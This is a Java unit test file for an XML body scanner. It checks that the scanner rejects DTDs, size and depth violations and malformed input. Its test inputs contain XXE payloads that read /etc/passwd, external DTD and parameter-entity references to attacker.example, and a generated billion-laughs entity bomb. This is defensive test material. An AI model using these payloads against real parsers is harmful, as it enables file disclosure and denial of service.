package dev.rampart.validation.body;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rampart.core.config.DataSize;
import dev.rampart.core.config.XmlLimitsConfig;
import dev.rampart.validation.BodyRules;
import dev.rampart.validation.Violation;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class XmlBodyScannerTest {

    private final XmlBodyScanner scanner = new XmlBodyScanner(new XmlLimitsConfig(4, 20, 2, DataSize.ofBytes(32), DataSize.ofKilobytes(4)));

    private Violation scan(String xml) {
        return scanner.scan(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void acceptsAPlainDocument() {
        assertThat(scan("<?xml version=\"1.0\"?><order id=\"1\"><item sku=\"A\">2</item><!-- note --></order>")).isNull();
    }

    @Test
    void refusesExternalEntities() {
        // XXE (CWE-611): the entity would read a local file into the document.
        Violation v = scan("""
                <?xml version="1.0"?>
                <!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <order>&xxe;</order>""");
        assertThat(v.rule()).isEqualTo(BodyRules.DTD);
    }

    @Test
    void refusesExternalDtdsAndParameterEntities() {
        assertThat(scan("<!DOCTYPE order SYSTEM \"http://attacker.example/evil.dtd\"><order/>").rule()).isEqualTo(BodyRules.DTD);
        assertThat(scan("<!DOCTYPE o [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]><o/>").rule()).isEqualTo(BodyRules.DTD);
    }

    @Test
    void refusesBillionLaughs() {
        // Entity expansion (CWE-776): ten levels of ten references each expand to 10^9 "lol"s.
        StringBuilder doc = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        doc.append("<!ENTITY lol1 \"").append("&lol;".repeat(10)).append("\">");
        for (int i = 2; i <= 9; i++) {
            doc.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        doc.append("]><lolz>&lol9;</lolz>");
        XmlBodyScanner roomy = new XmlBodyScanner(XmlLimitsConfig.defaults());
        Violation v = roomy.scan(new ByteArrayInputStream(doc.toString().getBytes(StandardCharsets.UTF_8)));
        assertThat(v.rule()).isEqualTo(BodyRules.DTD);
    }

    @Test
    void refusesDeepNestingManyElementsAndAttributes() {
        Violation deep = scan("<a><b><c><d><e/></d></c></b></a>");
        assertThat(deep).extracting(Violation::pointer, Violation::rule).containsExactly("/a/b/c/d/e", BodyRules.MAX_DEPTH);
        assertThat(scan("<a>" + "<b/>".repeat(20) + "</a>").rule()).isEqualTo(BodyRules.MAX_ELEMENTS);
        assertThat(scan("<a x=\"1\" y=\"2\" z=\"3\"/>").rule()).isEqualTo(BodyRules.MAX_ATTRIBUTES);
    }

    @Test
    void refusesLongTextAndAttributeValues() {
        assertThat(scan("<a>" + "t".repeat(33) + "</a>").rule()).isEqualTo(BodyRules.MAX_STRING_LENGTH);
        assertThat(scan("<a x=\"" + "v".repeat(33) + "\"/>").rule()).isEqualTo(BodyRules.MAX_STRING_LENGTH);
    }

    @Test
    void stopsReadingAtMaxSize() {
        assertThat(scanner.scan(new EndlessBody("<a>", "<!-- padding -->")).rule()).isEqualTo(BodyRules.MAX_SIZE);
    }

    @Test
    void refusesMalformedXml() {
        assertThat(scan("<a><b></a>").rule()).isEqualTo(BodyRules.SYNTAX);
    }

    @Test
    void refusesDeepNestingOnTheChunkThatOpensIt() {
        XmlBodyScanner.Feed feed = scanner.open();
        byte[] chunk = "<a><b><c><d><e>".getBytes(StandardCharsets.UTF_8);
        assertThat(feed.feed(chunk, 0, chunk.length)).extracting(Violation::rule).isEqualTo(BodyRules.MAX_DEPTH);
        assertThat(feed.feed(chunk, 0, chunk.length).rule()).isEqualTo(BodyRules.MAX_DEPTH);
    }

    @Test
    void refusesALongTextNodeBeforeItsEndArrives() {
        XmlBodyScanner.Feed feed = scanner.open();
        byte[] open = "<a>".getBytes(StandardCharsets.UTF_8);
        assertThat(feed.feed(open, 0, open.length)).isNull();
        byte[] text = "t".repeat(24).getBytes(StandardCharsets.UTF_8);
        Violation v = null;
        for (int i = 0; i < 4 && v == null; i++) {
            v = feed.feed(text, 0, text.length);
        }
        assertThat(v).isNotNull().extracting(Violation::rule).isEqualTo(BodyRules.MAX_STRING_LENGTH);
    }

    @Test
    void refusesADoctypeOnTheChunkThatDeclaresIt() {
        XmlBodyScanner.Feed feed = scanner.open();
        byte[] chunk = "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY x \"y\">]>".getBytes(StandardCharsets.UTF_8);
        assertThat(feed.feed(chunk, 0, chunk.length)).extracting(Violation::rule).isEqualTo(BodyRules.DTD);
    }

    @Test
    void acceptsADocumentSplitAtEveryByte() {
        XmlBodyScanner.Feed feed = scanner.open();
        byte[] doc = "<?xml version=\"1.0\"?><order id=\"1\"><item sku=\"A\">2</item><!-- note --></order>"
                .getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < doc.length; i++) {
            assertThat(feed.feed(doc, i, 1)).isNull();
        }
        assertThat(feed.finish()).isNull();
    }

    @Test
    void refusesAnEmptyOrUnfinishedDocument() {
        assertThat(scan("").rule()).isEqualTo(BodyRules.SYNTAX);
        assertThat(scan("<a><b/>").rule()).isEqualTo(BodyRules.SYNTAX);
        assertThat(scan("<a/><b/>").rule()).isEqualTo(BodyRules.SYNTAX);
    }

    @Test
    void acceptsADoctypeKeywordInsideTheDocumentAndAfterPrologComments() {
        XmlBodyScanner roomy = new XmlBodyScanner(XmlLimitsConfig.defaults());
        String doc = "<?xml version=\"1.0\"?><!-- <!DOCTYPE in a comment --><?pi x?>"
                + "<page><![CDATA[<!DOCTYPE html><html></html>]]></page>";
        assertThat(roomy.scan(new ByteArrayInputStream(doc.getBytes(StandardCharsets.UTF_8)))).isNull();
        assertThat(scan("<!-- c --><!DOCTYPE a><a/>").rule()).isEqualTo(BodyRules.DTD);
    }
}
